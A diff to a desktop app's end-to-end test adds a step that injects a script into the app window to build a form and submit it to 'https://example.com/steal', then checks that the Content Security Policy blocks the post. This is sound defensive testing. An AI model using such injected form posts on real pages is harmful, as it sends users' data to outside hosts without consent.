@@ -69,6 +69,26 @@ async fn import_search_edit_restart_and_text_in_the_real_window() {
     assert_eq!(text(&c, "lead-count").await.trim(), "0", "a fresh database has no leads");
     desktop.screenshot(&c, "01-empty").await;
 
+    // A script in the window cannot post a form anywhere (CSP form-action 'none'): the submit is
+    // blocked and reported, and the window stays on the app.
+    c.execute(
+        "window.__formBlocked = null;
+         document.addEventListener('securitypolicyviolation', e => {
+           if ((e.effectiveDirective || e.violatedDirective || '').startsWith('form-action')) window.__formBlocked = e.blockedURI || 'blocked';
+         });
+         const f = document.createElement('form');
+         f.method = 'post'; f.action = 'https://example.com/steal';
+         document.body.appendChild(f); f.submit(); f.remove(); return true;",
+        vec![],
+    )
+    .await
+    .expect("a script runs in the window");
+    eventually(&desktop, &c, "the form post is blocked by the CSP", || async {
+        c.execute("return window.__formBlocked;", vec![]).await.ok().is_some_and(|v| !v.is_null())
+    })
+    .await;
+    assert_eq!(text(&c, "lead-count").await.trim(), "0", "still the app, not a posted page");
+
     click(&c, "import-button").await;
     type_into(&c, "import-path", csv_path.to_str().expect("utf-8 path")).await;
     click(&c, "import-preview").await;
